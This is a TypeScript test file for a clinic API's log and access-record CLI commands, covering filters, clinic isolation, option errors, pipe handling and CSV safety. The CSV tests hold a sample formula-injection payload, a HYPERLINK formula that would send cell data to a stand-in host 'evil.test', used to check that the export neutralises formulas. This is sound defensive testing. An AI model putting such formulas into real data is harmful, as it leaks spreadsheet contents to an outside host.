// clinic-api logs and clinic-api access (docs/cli.md): a clinic's request log and a clienta's
// access record as JSON lines or CSV, filtered by key, status and time; another clinic's entries
// never shown; every bad option refused with exit 2 naming it, nothing printed on stdout; one
// request found by its id; the CSV safe to open (line breaks quoted, formulas neutralised); a
// closed pipe (| head) ends the command quietly. In-process on a temporary DATA_DIR (SQLite), and
// as its own process for the pipe; the entries written by the log's own writer.
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { requestLogRowMaker } from '../../src/http/request-log-row.js';
import { createUser } from '../../src/services/accounts.js';
import { RequestLog, type RawLogEntry } from '../../src/services/request-log.js';
import { runCli, tempDirs, withRuntimeAt, type Run } from './in-process.js';
import { builtEntry } from '../helpers/built-sources.js';

const NOW = Date.UTC(2026, 2, 28, 12, 0, 0);
const CLIENTA = '0a000001-0000-4000-8000-000000000001';
const dirs = tempDirs('clinic-logs-cli-');
let dataDir: string;
let clinicA: string;
let clinicB: string;
const cli = (argv: string[]): Promise<Run> => runCli(argv, { dataDir, now: NOW });

function refused(r: Run, ...mentions: string[]) {
  expect(r.code, r.stderr).toBe(2);
  expect(r.stdout).toBe('');
  for (const m of mentions) expect(r.stderr).toContain(m);
}

const entry = (clinicId: string, n: number, over: Partial<RawLogEntry> = {}): RawLogEntry => ({
  clinicId,
  atMs: NOW - 3 * 86_400_000 + n * 3_600_000,
  requestId: `${clinicId}-req-${n}`,
  keyId: n % 2 === 0 ? 'key-even' : 'key-odd',
  grantId: null,
  method: 'GET',
  url: `/api/v1/clientas?limit=${n + 1}`,
  status: n % 3 === 0 ? 404 : 200,
  errorCode: n % 3 === 0 ? 'not_found' : null,
  durationMs: 2,
  records: n % 3 === 0 ? null : 1,
  ip: '10.0.0.1',
  userAgent: 'cli-test',
  errorBody: n % 3 === 0 ? '{"error":{"code":"not_found"}}' : null,
  clientas: n % 3 === 0 ? null : [CLIENTA],
  ...over,
});

beforeAll(async () => {
  dataDir = dirs.make();
  const make = async (name: string) => {
    const r = await cli(['clinics', 'create', '--name', name, '--plan', 'premium']);
    expect(r.code, r.stderr).toBe(0);
    return r.stdout.trim();
  };
  clinicA = await make('Clínica Uno');
  clinicB = await make('Clínica Dos');
  await withRuntimeAt(dataDir, async (rt) => {
    const log = new RequestLog(rt.database, { toRow: requestLogRowMaker('svc') });
    for (let n = 0; n < 12; n++) log.record(entry(clinicA, n));
    for (let n = 0; n < 5; n++) log.record(entry(clinicB, n));
    await log.flush();
  });
});
afterAll(() => dirs.cleanup());

describe('clinic-api logs', () => {
  it("prints the clinic's entries oldest first as JSON lines, and none of another clinic", async () => {
    const r = await cli(['logs', '--clinic', clinicA]);
    expect(r.code, r.stderr).toBe(0);
    const rows = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows).toHaveLength(12);
    expect(rows.map((x) => x.request_id)).toEqual(Array.from({ length: 12 }, (_, n) => `${clinicA}-req-${n}`));
    expect(rows[1]).toMatchObject({
      method: 'GET',
      path: '/api/v1/clientas',
      query: 'limit=2',
      status: 200,
      key_id: 'key-odd',
      records: 1,
    });
    // in the clinic's zone (Europe/Madrid), with milliseconds, as the API writes times
    expect(rows[1].time).toBe('2026-03-25T14:00:00.000+01:00');
    expect(r.stdout).not.toContain(clinicB + '-req');
  });

  it('filters by key, status and time; CSV with a header row', async () => {
    const byKey = await cli(['logs', '--clinic', clinicA, '--key', 'key-even', '--status', '4xx']);
    const rows = byKey.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows.map((x) => x.request_id!.split('-').pop())).toEqual(['0', '6']);
    const exact = await cli([
      'logs',
      '--clinic',
      clinicA,
      '--status',
      '404',
      '--since',
      new Date(NOW - 3 * 86_400_000 + 5 * 3_600_000).toISOString(),
      '--format',
      'csv',
    ]);
    expect(exact.code, exact.stderr).toBe(0);
    const csv = parse(exact.stdout, { columns: true }) as Record<string, string>[];
    expect(csv.map((x) => x.request_id!.split('-').pop())).toEqual(['6', '9']);
    expect(csv[0]).toMatchObject({ status: '404', error_code: 'not_found', records: '', error_body: '{"error":{"code":"not_found"}}' });
  });

  it('--request-id finds one request by the id the API returned, in the clinic’s own log only', async () => {
    const one = await cli(['logs', '--clinic', clinicA, '--request-id', `${clinicA}-req-4`]);
    expect(one.code, one.stderr).toBe(0);
    const rows = one.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows.map((x) => x.request_id)).toEqual([`${clinicA}-req-4`]);
    expect(one.stderr).toBe('1 request\n');
    // Another clinic's request id: none.
    const other = await cli(['logs', '--clinic', clinicA, '--request-id', `${clinicB}-req-4`]);
    expect([other.code, other.stdout]).toEqual([0, '']);
    refused(await cli(['logs', '--clinic', clinicA, '--request-id', 'a b']), '--request-id', 'X-Request-Id');
  });

  it('refuses bad options with exit 2, naming them', async () => {
    refused(await cli(['logs', '--clinic', clinicA, '--status', '4x']), '--status', '4xx');
    refused(await cli(['logs', '--clinic', clinicA, '--since', '2026-02-30']), '--since');
    refused(await cli(['logs', '--clinic', clinicA, '--until', 'yesterday']), '--until', 'timestamp');
    refused(await cli(['logs', '--clinic', clinicA, '--since', '2026-03-28', '--until', '2026-03-01']), '--since', '--until');
    refused(await cli(['logs', '--clinic', clinicA, '--format', 'xml']), '--format', 'jsonl or csv');
    refused(await cli(['logs', '--clinic', 'nope']), 'no clinic with id nope');
  });
});

describe('clinic-api logs --app', () => {
  let clinicC: string;
  let clinicD: string;
  const grant = (c: string) => c.repeat(43);

  beforeAll(async () => {
    const make = async (name: string) => (await cli(['clinics', 'create', '--name', name, '--plan', 'premium'])).stdout.trim();
    clinicC = await make('Clínica Tres');
    clinicD = await make('Clínica Cuatro');
    await withRuntimeAt(dataDir, async (rt) => {
      const owner = await createUser(rt.database.db, {
        clinicId: clinicC,
        email: 'owner@tres.example',
        role: 'owner',
        password: 'x'.repeat(12),
      });
      const ownerD = await createUser(rt.database.db, {
        clinicId: clinicD,
        email: 'owner@cuatro.example',
        role: 'owner',
        password: 'x'.repeat(12),
      });
      const consent = (grantId: string, clinicId: string, clientId: string, grantedBy: string) =>
        rt.appGrants.recordConsent({
          grantId,
          clinicId,
          clientId,
          clientName: clientId,
          redirectHost: 'app.example',
          scopes: ['citas:read'],
          resource: 'https://api.example/api/v1',
          grantedBy,
        });
      // Agenda connected twice (two grants of one client), Claude once; clinic D's own app.
      await consent(grant('a'), clinicC, 'agenda', owner.id);
      await consent(grant('b'), clinicC, 'agenda', owner.id);
      await consent(grant('c'), clinicC, 'claude', owner.id);
      await consent(grant('d'), clinicD, 'crm-d', ownerD.id);
      const log = new RequestLog(rt.database, { toRow: requestLogRowMaker('svc') });
      const made: [number, string, string | null, string | null][] = [
        [0, clinicC, 'key-c', null],
        [1, clinicC, null, grant('a')],
        [2, clinicC, null, grant('b')],
        [3, clinicC, null, grant('c')],
        [4, clinicD, null, grant('d')],
      ];
      for (const [n, clinicId, keyId, grantId] of made) log.record(entry(clinicId, n, { keyId, grantId, status: 200, clientas: null }));
      await log.flush();
    });
  });

  const requests = (r: Run) => {
    expect(r.code, r.stderr).toBe(0);
    return r.stdout
      .trim()
      .split('\n')
      .filter(Boolean)
      .map((l) => Number((JSON.parse(l) as { request_id: string }).request_id.split('-').pop()));
  };

  it("by client id (every grant of the app) or by one grant id, the clinic's own apps only", async () => {
    // The same fields as the unfiltered log.
    const keysOf = (r: Run) => Object.keys(JSON.parse(r.stdout.trim().split('\n')[0]!) as object).sort();
    expect(keysOf(await cli(['logs', '--clinic', clinicC, '--app', 'agenda']))).toEqual(keysOf(await cli(['logs', '--clinic', clinicC])));
    expect(requests(await cli(['logs', '--clinic', clinicC, '--app', 'agenda']))).toEqual([1, 2]);
    expect(requests(await cli(['logs', '--clinic', clinicC, '--app', grant('b')]))).toEqual([2]);
    expect(requests(await cli(['logs', '--clinic', clinicC, '--app', 'claude', '--status', '2xx']))).toEqual([3]);
    const csv = await cli(['logs', '--clinic', clinicC, '--app', 'agenda', '--format', 'csv']);
    expect((parse(csv.stdout, { columns: true }) as Record<string, string>[]).map((x) => x.grant_id)).toEqual([grant('a'), grant('b')]);
  });

  it('refuses an app that is not one of the clinic’s (another clinic’s too), and --app with --key, with exit 2', async () => {
    for (const other of ['crm-d', grant('d'), 'nope']) {
      refused(await cli(['logs', '--clinic', clinicC, '--app', other]), '--app', `apps list --clinic ${clinicC}`, `"${other}"`);
    }
    refused(await cli(['logs', '--clinic', clinicC, '--app', 'agenda', '--key', 'key-c']), '--key and --app');
  });
});

describe('clinic-api access', () => {
  it("lists every request that disclosed the clienta, newest first, of the clinic's own log only", async () => {
    const r = await cli(['access', '--clinic', clinicA, '--clienta', CLIENTA.toUpperCase()]);
    expect(r.code, r.stderr).toBe(0);
    const rows = r.stdout
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(rows.map((x) => Number(x.request_id!.split('-').pop()))).toEqual([11, 10, 8, 7, 5, 4, 2, 1]);
    expect(Object.keys(rows[0]).sort()).toEqual(['grant_id', 'key_id', 'method', 'path', 'query', 'request_id', 'status', 'time'].sort());
    const b = await cli(['access', '--clinic', clinicB, '--clienta', CLIENTA, '--format', 'csv']);
    const csvB = parse(b.stdout, { columns: true }) as Record<string, string>[];
    expect(csvB.every((x) => x.request_id!.startsWith(clinicB))).toBe(true);
    expect(csvB).toHaveLength(3);
  });

  it('refuses a clienta that is not an id, with exit 2', async () => {
    refused(await cli(['access', '--clinic', clinicA, '--clienta', 'maria']), '--clienta', 'UUID');
    refused(await cli(['access', '--clinic', clinicA]), '--clienta');
  });

  it('refuses an unknown clienta id (no clienta, nothing in the log names one) with exit 2', async () => {
    const unknown = '0a000001-0000-4000-8000-0000000000ff';
    refused(await cli(['access', '--clinic', clinicA, '--clienta', unknown]), 'no clienta with id', unknown);
    refused(await cli(['access', '--clinic', clinicA, '--clienta', unknown, '--format', 'csv']), 'no clienta with id');
  });
});

describe('the CSV is safe to open in a spreadsheet', () => {
  let clinicE: string;
  const hyperlink = '=HYPERLINK("http://evil.test/?"&A1,"x")';

  beforeAll(async () => {
    clinicE = (await cli(['clinics', 'create', '--name', 'Clínica Cinco', '--plan', 'premium'])).stdout.trim();
    await withRuntimeAt(dataDir, async (rt) => {
      const log = new RequestLog(rt.database, { toRow: requestLogRowMaker('svc') });
      const agents = [hyperlink, '+1+2', '-2+3', '@SUM(1)', '\tTab', 'line\nfeed', 'carriage\rreturn', 'curl/8.5'];
      agents.forEach((userAgent, n) => log.record(entry(clinicE, n, { userAgent, status: 200, clientas: [CLIENTA] })));
      await log.flush();
    });
  });

  it('logs and access: a lone LF or CR quoted (one entry, one row), every cell that starts a formula neutralised', async () => {
    const r = await cli(['logs', '--clinic', clinicE, '--format', 'csv']);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stdout).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""x"")"`);
    expect(r.stdout).toContain('"line\nfeed"');
    expect(r.stdout).toContain('"carriage\rreturn"');
    // Read as RFC 4180 with CRLF records: a bare LF or CR outside quotes would start a new row.
    const rows = parse(r.stdout, { columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
    expect(rows.map((x) => x.user_agent)).toEqual([
      `'${hyperlink}`,
      "'+1+2",
      "'-2+3",
      "'@SUM(1)",
      "'\tTab",
      'line\nfeed',
      'carriage\rreturn',
      'curl/8.5',
    ]);
    expect(rows.every((x) => x.status === '200' && x.path === '/api/v1/clientas')).toBe(true);
    // JSON lines are data for programs: unchanged.
    const json = await cli(['logs', '--clinic', clinicE]);
    expect((JSON.parse(json.stdout.split('\n')[0]!) as { user_agent: string }).user_agent).toBe(hyperlink);
    const access = await cli(['access', '--clinic', clinicE, '--clienta', CLIENTA, '--format', 'csv']);
    expect(access.code, access.stderr).toBe(0);
    expect(parse(access.stdout, { columns: true, record_delimiter: '\r\n' })).toHaveLength(8);
  });
});

describe('a closed pipe (clinic-api logs | head)', () => {
  let clinicF: string;
  const ROOT = fileURLToPath(new URL('../..', import.meta.url));

  beforeAll(async () => {
    clinicF = (await cli(['clinics', 'create', '--name', 'Clínica Seis', '--plan', 'premium'])).stdout.trim();
    await withRuntimeAt(dataDir, async (rt) => {
      const log = new RequestLog(rt.database, { toRow: requestLogRowMaker('svc') });
      // Far more than a pipe holds (64 KiB): the command is still writing when the reader goes.
      for (let n = 0; n < 4_000; n++) log.record(entry(clinicF, n, { status: 200, clientas: [CLIENTA], userAgent: 'x'.repeat(150) }));
      await log.flush();
    });
  });

  /** The command as its own process; its stdout closed after the first chunk, as `head` does. */
  function closedEarly(args: string[]): Promise<{ code: number | null; stderr: string; first: string }> {
    const child = spawn(process.execPath, [...builtEntry('test/cli/run-cli.ts'), ...args], {
      cwd: ROOT,
      env: { PATH: process.env.PATH ?? '', TZ: 'UTC', DATA_DIR: dataDir, LOG_LEVEL: 'silent' },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    let first = '';
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    child.stdout.once('data', (c: Buffer) => {
      first = c.toString();
      child.stdout.destroy();
    });
    return new Promise((resolve) => child.once('close', (code) => resolve({ code, stderr, first })));
  }

  it.each([
    ['logs', 'jsonl'],
    ['logs', 'csv'],
    ['access', 'jsonl'],
    ['access', 'csv'],
  ])('%s --format %s ends quietly: exit 0, no stack trace', async (command, fmt) => {
    const args = command === 'logs' ? ['logs', '--clinic', clinicF] : ['access', '--clinic', clinicF, '--clienta', CLIENTA];
    const r = await closedEarly([...args, '--format', fmt]);
    expect(r.first.length).toBeGreaterThan(0);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
  });
});
